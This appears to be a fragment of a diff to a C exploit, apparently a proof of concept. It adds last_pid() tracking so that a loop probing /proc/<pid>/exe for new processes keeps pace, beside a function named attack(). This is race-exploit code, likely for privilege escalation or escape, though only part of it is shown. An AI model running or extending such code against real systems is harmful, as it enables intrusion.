@@ -9,6 +9,8 @@
 #include <sys/stat.h>
 #include <unistd.h>
 
+#include "last_pid.h"
+
 static void attack(int program) {
   char path[64];
   snprintf(path, sizeof path, "/proc/self/fd/%d", program);
@@ -37,6 +39,8 @@ int main(void) {
   setvbuf(stdout, NULL, _IOLBF, 0);
   puts("ready");
   for (unsigned long tries = 0; (tries & 0xfff) != 0 || poll(&input, 1, 0) == 0; ++tries) {
+    const int last = (tries & 0xff) == 0 ? last_pid() : 0;
+    if (last > next) next = last;
     for (int pid = next; pid < next + 3; ++pid) {
       char path[64];
       snprintf(path, sizeof path, "/proc/%d/exe", pid);
